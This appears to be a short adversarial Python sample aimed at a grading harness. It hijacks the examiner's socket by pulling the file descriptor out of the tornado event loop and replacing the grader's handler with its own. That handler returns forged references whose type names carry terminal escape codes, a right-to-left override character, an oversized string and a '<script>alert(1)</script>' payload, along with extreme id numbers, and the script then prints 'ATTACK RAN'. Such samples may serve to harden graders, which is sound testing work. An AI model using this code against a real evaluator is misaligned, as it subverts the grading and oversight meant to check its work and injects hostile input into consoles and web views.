# ---
# about: gives references with a type name full of escape codes, and another one for each question
# stock: "not run: aims at our examiner"
# ---

# %% mean
import os
import random
import socket
from tornado.ioloop import IOLoop
from workshop.grading import codec
from workshop.grading.protocol import ANSWER, MOST_ANSWER, receive_frame, send_frame

loop = IOLoop.current()
number = next(n for n, (_, call) in loop.handlers.items() if "_answer_on" in call.__qualname__)
stream = socket.socket(fileno=os.dup(number))

def answer(*_):
    receive_frame(stream, MOST_ANSWER)
    name = random.choice(["float", "ndarray", "\x1b[2J\x1b]0;owned\x07\u202e", "x" * 90, "<script>alert(1)</script>"])
    number = random.choice([0, -1, 2**62, 7])
    data = codec.encode(("value", object()), lambda _: codec.Reference(number, name))
    send_frame(stream, ANSWER, data)

loop.remove_handler(number)
loop.add_handler(number, answer, loop.READ)
print("ATTACK RAN")
